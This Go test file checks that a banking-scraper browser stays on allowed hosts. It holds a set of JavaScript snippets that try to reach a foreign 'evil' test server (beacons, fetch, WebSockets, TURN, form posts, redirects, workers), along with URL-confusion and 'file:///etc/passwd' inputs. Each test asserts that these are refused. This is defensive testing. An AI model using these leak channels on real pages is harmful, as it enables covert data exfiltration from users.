package browser

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"reconbanker/scrapers"
)

func TestWallRules(t *testing.T) {
	w, err := newWall([]string{"bank.example", "*.BANK.example", "127.0.0.1:8080", "[::1]:9", "localhost"})
	must(t, err)
	for address, ok := range map[string]bool{
		"https://bank.example/x?y":       true,
		"https://BANK.example:8443/":     true,
		"wss://a.b.bank.example/":        true,
		"http://127.0.0.1:8080/":         true,
		"http://[::1]:9/":                true,
		"http://localhost:1/":            true,
		"http://127.0.0.1/":              false,
		"http://127.0.0.1:80801/":        false,
		"https://evilbank.example/":      false,
		"https://bank.example.evil.net/": false,
		"https://bank.example@evil.net/": false,
		"https://bank.example./":         false,
		"ftp://bank.example/":            false,
		"file:///etc/passwd":             false,
		"chrome://settings":              false,
		"javascript:alert(1)":            false,
		"":                               false,
	} {
		u, err := url.Parse(address)
		if got := err == nil && w.allows(u); got != ok {
			t.Errorf("%s: %v, want %v", address, got, ok)
		}
	}
	for _, bad := range []string{"", "*", "*.com", "https://bank.example", "a b", "bank.example/x", "x;y"} {
		if _, err := newWall([]string{bad}); err == nil {
			t.Errorf("%q was taken as a host", bad)
		}
	}
	if got, want := w.bypass(), "<-loopback>;bank.example;*.bank.example;127.0.0.1:8080;[::1]:9;localhost"; got != want {
		t.Errorf("bypass list %s, want %s", got, want)
	}
	for address, ok := range map[string]bool{
		"https://bank.example/": true, "http://bank.example/": false, "http://127.0.0.1:8080/": true,
		"http://localhost/": true, "https://evil.example/": false, "wss://bank.example/": false,
	} {
		u, err := url.Parse(address)
		must(t, err)
		if err := w.trusted(u); (err == nil) != ok {
			t.Errorf("secrets on %s: %v", address, err)
		}
	}
	if got := plain("https://u:p@bank.example/a?b=c#d"); got != "https://bank.example/a" {
		t.Errorf("plain address is %s", got)
	}
}

// reachers are ways of a page to reach another host without leaving itself.
var reachers = map[string]string{
	"preconnect":  `link('preconnect', E)`,
	"dnsPrefetch": `link('dns-prefetch', E)`,
	"prefetch":    `link('prefetch', E + '/prefetch')`,
	"stylesheet":  `link('stylesheet', E + '/css')`,
	"speculation": `add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [E + '/s']}], prerender: [{source: 'list', urls: [E + '/p']}]})})`,
	"image":       `add('img', {src: E + '/img'})`,
	"fetch":       `fetch(E + '/fetch', {mode: 'no-cors'}).catch(() => {})`,
	"redirect":    `fetch('/away', {mode: 'no-cors'}).catch(() => {})`,
	"beacon":      `navigator.sendBeacon(E + '/beacon', 'x')`,
	"events":      `new EventSource(E + '/events')`,
	"socket":      `new WebSocket(E.replace('http', 'ws') + '/ws').onerror = () => document.title = 'socket'`,
	"frame":       `add('iframe', {src: E + '/frame'})`,
	"form":        `add('iframe', {name: 'f'}); add('form', {action: E + '/form', method: 'post', target: 'f'}).submit()`,
	"worker":      `new Worker('/worker.js')`,
	"shared":      `new SharedWorker('/worker.js')`,
	"service":     `navigator.serviceWorker.register('/worker.js')`,
	"turn":        `const c = new RTCPeerConnection({iceServers: [{urls: 'turn:' + E.slice(7) + '?transport=tcp', username: 'a', credential: 'b'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))`,
}

func TestForeignHostIsNeverContacted(t *testing.T) {
	evil := serve(t, nil, nil)
	pages := map[string]string{}
	script := `<body><script>const E = '` + evil.URL + `';
		const add = (n, p) => { const e = Object.assign(document.createElement(n), p); document.body.append(e); return e; };
		const link = (rel, href) => add('link', {rel, href});`
	for name, code := range reachers {
		pages["/"+name] = script + code + `</script><p id=x>x</p>`
	}
	bank := serve(t, pages, map[string]http.HandlerFunc{
		"/away": func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, evil.URL+"/away", http.StatusFound) },
		"/worker.js": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte(`const E = '` + evil.URL + `'; try { new WebSocket(E.replace('http', 'ws')) } catch {}
				fetch(E + '/worker', {mode: 'no-cors'}).catch(() => {})`))
		},
	})
	// These are known only by their silence; the rest is seen being refused.
	silent := map[string]bool{"preconnect": true, "dnsPrefetch": true, "speculation": true, "socket": true, "turn": true}
	tab := open(t, bank)
	for name := range reachers {
		before := tab.Refused()[evil.URL]
		must(t, tab.Goto(t.Context(), bank.URL+"/"+name))
		saw(t, tab, "x", scrapers.Seen("x", "#x"))
		if name == "socket" {
			until(t, "the socket failed", func() bool { return read[string](t, tab, "document.title") == "socket" })
		}
		if !silent[name] {
			until(t, name+" is refused", func() bool { return tab.Refused()[evil.URL] > before })
		}
	}
	if n := evil.connections(); n > 0 {
		t.Fatalf("the foreign host was contacted %d times: %v", n, evil.hits)
	}
}

func TestTopPageStaysWithTheBank(t *testing.T) {
	evil := serve(t, map[string]string{"/": "evil"}, nil)
	bank := serve(t, map[string]string{
		"/":     `<a id=link href="` + evil.URL + `/?secret=1">x</a><form action="` + evil.URL + `/post" method=post><button id=post>x</button></form>`,
		"/self": `<p id=self>x</p><script>location = '` + evil.URL + `/script?a=b'</script>`,
	}, map[string]http.HandlerFunc{
		"/302": func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, evil.URL+"/?q", http.StatusFound) },
	})
	tab := open(t, bank)
	away := func(err error) {
		t.Helper()
		wantKind(t, err, scrapers.OriginNotAllowed)
		if !strings.Contains(err.Error(), evil.URL+")") && !strings.Contains(err.Error(), evil.URL+":") || strings.Contains(err.Error(), "?") {
			t.Fatalf("%v does not name %s alone", err, evil.URL)
		}
	}
	away(tab.Goto(t.Context(), evil.URL+"/?q=1"))
	away(tab.Goto(t.Context(), bank.URL+"/302"))
	for _, selector := range []string{"#link", "#post"} {
		must(t, tab.Goto(t.Context(), bank.URL+"/"))
		must(t, tab.Click(t.Context(), selector))
		_, err := tab.WaitAny(t.Context(), scrapers.Seen("never", "#never"))
		away(err)
		if at, err := tab.URL(t.Context()); err != nil || at != bank.URL+"/" {
			t.Fatalf("the page is at %s (%v)", at, err)
		}
	}
	must(t, tab.Goto(t.Context(), bank.URL+"/self"))
	_, err := tab.WaitAny(t.Context(), scrapers.Seen("never", "#never"))
	away(err)
	if n := evil.connections(); n > 0 {
		t.Fatalf("the foreign host was contacted %d times", n)
	}
	for _, address := range []string{"file:///etc/passwd", "chrome://version", "data:text/html,x", "about:blank", "javascript:1", "ftp://x/", "::"} {
		wantKind(t, tab.Goto(t.Context(), address), scrapers.OriginNotAllowed)
	}
}

func TestPopupsPermissionsAndDownloads(t *testing.T) {
	evil := serve(t, nil, nil)
	bank := serve(t, map[string]string{
		"/":      `<button id=a onclick="window.open('` + evil.URL + `')">a</button><button id=b onclick="window.open('/popup')">b</button><a id=c href="/file">c</a>`,
		"/popup": `popup`,
	}, map[string]http.HandlerFunc{
		"/file": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Disposition", "attachment; filename=x.bin")
			_, _ = w.Write([]byte("x"))
		},
	})
	tab := open(t, bank)
	must(t, tab.Goto(t.Context(), bank.URL+"/"))
	for i, selector := range []string{"#a", "#b"} {
		must(t, tab.Click(t.Context(), selector))
		until(t, "the popup is closed", func() bool { return strings.Count(strings.Join(tab.report(), "\n"), "closed a popup") == i+1 })
	}
	if evil.connections() > 0 || bank.seen("/popup") > 0 {
		t.Fatal("a popup loaded its page")
	}
	got := read[string](t, tab, `Promise.all(['geolocation', 'notifications', 'camera', 'clipboard-read'].map((name) =>
		navigator.permissions.query({name}).then((p) => p.state))).then((a) => a.join())`)
	if got != "denied,denied,denied,denied" {
		t.Fatalf("permissions are %s", got)
	}
	wantKind(t, tab.Goto(t.Context(), bank.URL+"/file"), scrapers.LayoutChanged)
	if at, err := tab.URL(t.Context()); err != nil || at != bank.URL+"/" {
		t.Fatalf("the download moved the page to %s (%v)", at, err)
	}
}
